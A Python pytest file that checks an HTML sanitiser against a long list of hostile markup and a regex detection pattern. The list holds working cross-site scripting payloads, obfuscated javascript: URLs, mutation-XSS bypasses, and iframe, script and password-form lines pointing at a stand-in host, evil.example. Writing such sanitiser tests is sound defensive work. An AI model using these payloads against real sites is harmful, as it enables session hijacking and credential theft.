"""Nothing that could harm a reader, a page or a feed gets through."""

import re

import pytest

from safeguards.html import sanitise

from .seen import seen

HOSTILE = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<SCRIPT/XSS SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img/src=x/onerror=alert(1)>",
    "<p\nonclick=alert(1)>x</p>",
    '<a title="x>&quot; href="onclick=alert(1) ">x</a>',
    '<a title="x&quot; onclick=&quot;alert(1)">x</a>',
    "<a title='x\" onclick=\"alert(1)'>x</a>",
    "<a title=`x` onclick=alert(1)>x</a>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&NewLine;script&colon;alert(1)">x</a>',
    '<a href="java&#11;script:alert(1)">x</a>',
    '<a href="java&#11script:alert(1)">x</a>',
    '<a href="java&#x0script:alert(1)">x</a>',
    '<a href="&#1;javascript:alert(1)">x</a>',
    '<a href="java\x0bscript:alert(1)">x</a>',
    '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58;alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<video src="javascript:alert(1)" poster="javascript:alert(1)" controls></video>',
    '<video><source src="x" onerror="alert(1)"></video>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<td style="text-align:right;position:fixed">x</td>',
    "<style>*{display:none}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="http://www.youtube.com/embed/x"></iframe>',
    '<iframe src="https://www.youtube.com@evil.example/"></iframe>',
    '<iframe src="https://www.youtube.com\\@evil.example/"></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="https://www.youtube.com/embed/x"><script>alert(1)</script></iframe>',
    '<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>',
    '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
    '<input type="checkbox" autofocus onfocus="alert(1)">',
    '<textarea></textarea><img src=x onerror="alert(1)">',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    '<object data="x.swf"></object><embed src="x.swf"><applet code="x"></applet>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<svg onload="alert(1)">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>'
    '<img onerror=alert(1) src>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=x">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="/" target="_blank">x</a>',
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<select><script>alert(1)</script></select>",
    '<x onclick="alert(1)">x</x>',
    "&lt;script&gt;alert(1)&lt;/script&gt;<br>&#60script&#62",
]
FORBIDDEN = re.compile(
    r"<(?:script|style|form|object|embed|applet|svg|math|base|meta|link|button|textarea|template|x)\b|<!"
    r'|<\w+(?: [^ ="]+="[^"]*")*? (?:on\w+|style|target|srcdoc|formaction|xlink:href)='
    r'|<\w+(?: [^ ="]+="[^"]*")*? (?:href|src|cite|poster)="\s*(?:javascript|vbscript|data):'
    r"|<iframe [^>]*evil",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_markup_is_gone(html: str) -> None:
    clean = sanitise(html)
    assert not FORBIDDEN.search(seen(clean)), clean
    assert sanitise(clean) == clean


@pytest.mark.parametrize("html", HOSTILE)
def test_it_is_gone_amid_clean_markup_too(html: str) -> None:
    clean = sanitise(f"<p>&lsquo;a&rsquo;</p>\n{html}\n<p title='y'>&hellip;</p>")
    assert not FORBIDDEN.search(seen(clean)), clean
    assert clean.startswith(("<p>&lsquo;a&rsquo;</p>", "<p>‘a’</p>"))


def test_the_oracle_sees_what_is_hostile() -> None:
    assert FORBIDDEN.search(seen('<p onclick="alert(1)">x</p>'))
    assert FORBIDDEN.search(seen('<a href="javascript:alert(1)">x</a>'))
    assert FORBIDDEN.search(seen("<script>1</script>"))


@pytest.mark.parametrize(
    "html",
    ["a\0b", "a\x0bb", "a\ufffeb", "a\ud800b", "a&#0;b", "a&#11;b", "a&#11b", "a&#x1F;b",
     "a&#xd800;b", "a&#xFFFE;b", "a&#13;b", "a&#99999999999999999999;b"],
)  # fmt: skip
def test_characters_that_xml_cannot_hold_are_removed(html: str) -> None:
    assert sanitise(html) == "ab"
    assert sanitise(f'<p title="{html}">{html}</p>') == '<p title="ab">ab</p>'


def test_foreign_classes_and_the_sites_own_ids_are_dropped() -> None:
    html = '<p class="masthead footnote-ref submit-row" id="Site--menu">x</p>'
    assert sanitise(html) == '<p class="footnote-ref">x</p>'


def test_an_element_without_what_it_requires_goes_and_its_neighbours_stay() -> None:
    html = '<p>a<iframe src="//x">b</iframe>c<input type="text" disabled>d</p>'
    assert sanitise(html) == "<p>acd</p>"
